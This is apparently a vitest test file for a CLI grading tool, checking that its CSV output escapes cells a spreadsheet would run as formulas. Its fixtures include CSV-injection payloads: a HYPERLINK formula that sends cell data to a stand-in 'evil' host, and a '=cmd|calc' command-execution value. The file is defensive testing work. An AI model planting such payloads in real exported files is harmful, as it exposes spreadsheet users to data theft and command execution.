import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { firstCsvRecords } from '../../src/input/split-csv';
import { csvTextCell } from '../../src/report/format-csv';
import { useCli, useTempDir } from './cli-harness';

const cli = useCli();
const temp = useTempDir();

const AC = 'home-appliances/room-air-conditioner-energy';

/** The cells of each line of CSV output, read by qgrade's own RFC 4180 reader. */
function parseCsv(text: string): string[][] {
  return firstCsvRecords(text, ',', 100).map((r) => r.cells);
}

describe('csvTextCell: a text cell a spreadsheet would run as a formula starts with a quote (OWASP)', () => {
  it('prefixes = + - @ tab and CR, and quotes as csvCell does', () => {
    expect(csvTextCell('=1+1')).toBe("'=1+1");
    expect(csvTextCell('+1+cmd')).toBe("'+1+cmd");
    expect(csvTextCell('-3-A1')).toBe("'-3-A1");
    expect(csvTextCell('-1e3')).toBe("'-1e3");
    expect(csvTextCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(csvTextCell('\tx')).toBe("'\tx");
    expect(csvTextCell('\rx')).toBe(`"'\rx"`);
    expect(csvTextCell('=HYPERLINK("http://evil/?"&A1,"click")')).toBe(
      `"'=HYPERLINK(""http://evil/?""&A1,""click"")"`,
    );
  });

  it("leaves a plain signed decimal number as it is (hostile-37 M3: a kept -3 became '-3)", () => {
    for (const text of ['-3', '+5', '-0.25', '+4.62']) expect(csvTextCell(text)).toBe(text);
  });

  it('leaves other text alone, a sign inside the text too', () => {
    for (const text of ['', 'KFR-35GW', 'a=b', ' =x', '＝1', "'=1", '1', 'Grade 1'])
      expect(csvTextCell(text)).toBe(text === ' =x' ? '" =x"' : text);
  });
});

describe.concurrent('grade -f csv writes no cell a spreadsheet runs as a formula', () => {
  const csv = () => {
    const path = join(temp(), 'inject.csv');
    writeFileSync(
      path,
      [
        'model,unitType,ratedCoolingCapacity,apf',
        '"=HYPERLINK(""http://evil/?""&A1,""click"")",heat-pump,3500,4.62',
        '@SUM(1+1),heat-pump,3500,=1+1',
        '-3,heat-pump,3500,-4.62',
        '+7,heat-pump,3500,4.62',
      ].join('\n'),
    );
    return path;
  };

  it('kept ids and echoed values get a leading quote; row numbers stay numbers', async () => {
    const { code, stdout } = await cli.run([
      'grade',
      '-r',
      AC,
      '-f',
      'csv',
      '--keep',
      'model',
      '--no-summary',
      csv(),
    ]);
    expect(code).toBe(1);
    const rows = parseCsv(stdout);
    expect(rows.map((r) => r[0])).toEqual(['row', '1', '2', '3', '4']);
    expect(rows.map((r) => r[1])).toEqual([
      'model',
      `'=HYPERLINK("http://evil/?"&A1,"click")`,
      "'@SUM(1+1)",
      '-3',
      '+7',
    ]);
    // The explanation echoes the refused value, but starts with the field, so it needs no quote.
    expect(rows[2]!.at(-1)).toContain('"=1+1"');
    for (const row of rows)
      for (const cell of row) if (!/^[+-]\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('a --group-by CSV guards the group key the same way', async () => {
    const path = join(temp(), 'lots.csv');
    writeFileSync(
      path,
      ['lot,strengthClass,compressive28d', '=cmd|calc,42.5,47.1', '-7,42.5,47.1'].join('\n'),
    );
    const { stdout } = await cli.run([
      'grade',
      '-r',
      'building-materials/cement-lot-grade',
      '-g',
      'lot',
      '-f',
      'csv',
      '--no-summary',
      path,
    ]);
    const rows = parseCsv(stdout);
    expect(rows.slice(1).map((r) => r[0])).toEqual(["'=cmd|calc", '-7']);
    expect(rows.slice(1).map((r) => r[1])).toEqual(['1', '2']);
  });
});
